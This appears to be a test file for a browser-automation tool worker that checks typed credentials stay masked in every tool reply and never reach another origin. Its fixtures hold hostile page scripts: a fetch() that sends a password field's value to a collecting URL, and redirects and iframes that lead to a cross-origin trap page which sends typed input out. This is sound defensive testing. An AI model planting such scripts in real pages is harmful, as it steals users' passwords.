// Hostile pages repeat a credential in every way that they can. Nothing that a worker says may have it. With ECHOES, so
// many echoes are tried; with SEED, others.
import assert from "node:assert/strict";
import { test } from "node:test";
import { shared } from "../harness/shared.ts";
import { type Outcome, refOf, startWorker, type WorkerSession } from "../harness/worker.ts";
import { serveSite } from "../site/serve.ts";
import { echoScript, randomOf, secretOf } from "./echoes.ts";
import { leaksIn } from "./leaks.ts";

const ECHOES = Number(process.env.ECHOES ?? 200);
const SEED = Number(process.env.SEED ?? 1);
const ECHOES_A_PAGE = 20;
const DEADLINE = { timeout: 60_000 + ECHOES * 200 };

const site = shared(await serveSite());
let secret = "";
const worker = shared(
  await startWorker({
    credentials: [{ name: "password", origins: [site.origin], source: "the file password" }],
  }),
);
worker.givesCredentials(() => secret);
const elsewhere = site.elsewhere(
  site.page(
    `<p id=out></p><script>out.textContent = location.hash; document.title = decodeURIComponent(location.hash)</script>`,
  ),
);
const received: string[] = [];
const gotten = site.route((request, response) => {
  received.push(`${request.headers.host} ${request.url}`);
  response.end();
});

test(`${ECHOES} hostile echoes bring out no secret`, DEADLINE, async () => {
  for (let echoes = 0, page = 0; echoes < ECHOES; echoes += ECHOES_A_PAGE, page++) {
    const random = randomOf(SEED * 1_000_003 + page);
    secret = secretOf(random);
    const script = echoScript(random, ECHOES_A_PAGE, elsewhere);
    await using session = worker.session();
    const outcomes = await playedOn(session, script);
    const found = [...leaksIn({ replies: JSON.stringify(outcomes) }, { secret }), ...spreadIn(outcomes)];
    assert.deepEqual(found, [], `seed ${SEED}, page ${page}: ${JSON.stringify(secret)}`);
  }
});

test("the secrets reached the pages, and a search without the mask would find them", async () => {
  await using session = worker.session();
  secret = "found-In-Plain/77";
  await playedOn(
    session,
    `field.addEventListener("input", () => fetch("${gotten}?" + encodeURIComponent(field.value)))`,
  );
  await session.do("browser_wait_for", { time: 0.1 });
  assert.match(received.join("\n"), /found-In-Plain%2F77/);
  assert.equal(leaksIn({ page: JSON.stringify(received) }, { secret }).length, 1);
});

test("no document of another origin gets a secret, wherever the page leads meanwhile", async () => {
  const fills = Math.max(5, Math.floor(ECHOES / 100));
  const trap = site.elsewhere(
    site.page(
      `<input autofocus aria-label=Trap id=field oninput="fetch('${site.elsewhere(gotten)}?' + this.value)"><script>field.focus()</script>`,
    ),
  );
  secret = "never-Elsewhere/31";
  for (let fill = 0; fill < fills; fill++) {
    await using session = worker.session();
    const random = randomOf(SEED + fill);
    const moves = [
      `field.addEventListener("focus", () => { location.href = "${trap}" })`,
      `field.addEventListener("keydown", () => { location.href = "${trap}" })`,
      `setTimeout(() => { location.href = "${trap}" }, ${200 + random(400)})`,
      `field.addEventListener("focus", () => { document.body.innerHTML = '<iframe src="${trap}"></iframe>' })`,
      `field.addEventListener("focus", () => { const frame = document.createElement("iframe"); frame.src = "${trap}"; document.body.append(frame); frame.onload = () => frame.contentWindow.focus() })`,
    ];
    const page = await session.open(
      site.page(`<input aria-label=Password id=field><script>${moves[fill % moves.length]}</script>`),
    );
    if (!page.includes("Password")) continue;
    await session.call("browser_type", { ref: refOf(page, "Password"), text: "{{tester.password}}" });
    await session.call("browser_type", { text: "{{tester.password}}" });
    await session.call("browser_snapshot");
  }
  assert.deepEqual(
    received.filter((request) => request.startsWith("localhost")),
    [],
  );
});

/** Types the secret into a page with the script, and reads the page through every tool that says something of it. */
async function playedOn(session: WorkerSession, script: string): Promise<Outcome[]> {
  const page = await session.open(
    site.page(`<style>.drawn::before { content: attr(data-typed) }</style><title>Log in</title>
      <label>Password <input id=field></label><p id=out></p><script>${script}</script>`),
  );
  const ref = refOf(page, "Password");
  const outcomes: Outcome[] = [];
  const call = async (tool: string, args: object = {}) => {
    outcomes.push(await session.call(tool, { ...args }));
  };
  await call("browser_type", { ref, text: "{{tester.password}}", submit: true });
  await call("browser_handle_dialog", { accept: true });
  await call("browser_snapshot");
  await call("browser_snapshot", { full: true, maxTokens: 0 });
  await call("browser_find", { text: "typed" });
  await call("browser_find", { regex: "." });
  await call("browser_console_messages");
  await call("browser_tabs", { action: "list" });
  await call("browser_wait_for", { text: "this never comes", time: 0.05 });
  await call("browser_click", { ref: "e2" });
  await call("browser_type", { ref: "e999", text: "{{tester.password}}" });
  for (const tool of ["resolve_container", "extract_anchors", "inspect_pattern"])
    await call(tool, tool === "resolve_container" ? { ref } : { ref, ancestorLevel: 1 });
  outcomes.push({ text: JSON.stringify(await worker.failures()) });
  return outcomes;
}

/** Finds a secret that stands in a reply's words one after another, and returns the lines that it is spread over. */
function spreadIn(outcomes: readonly Outcome[]): string[] {
  const wanted = bare(secret);
  return outcomes.flatMap(({ text }) => {
    const lines = text.split("\n");
    const words = lines.map((line) =>
      bare(line.replace(/\[[^\]\n]*\]/g, "").replace(/^\s*(?:[~+] )?- [a-z]+/, "")),
    );
    const at = words.join("").indexOf(wanted);
    if (at < 0) return [];
    const isIn = (_line: string, index: number) => {
      const begin = words.slice(0, index).join("").length;
      return begin + (words[index] ?? "").length > at && begin < at + wanted.length;
    };
    return [`spread: ${lines.filter(isIn).join("\n").slice(0, 2_000)}`];
  });
}

function bare(text: string): string {
  return text.replace(/[^\p{L}\p{N}]/gu, "").toLowerCase();
}
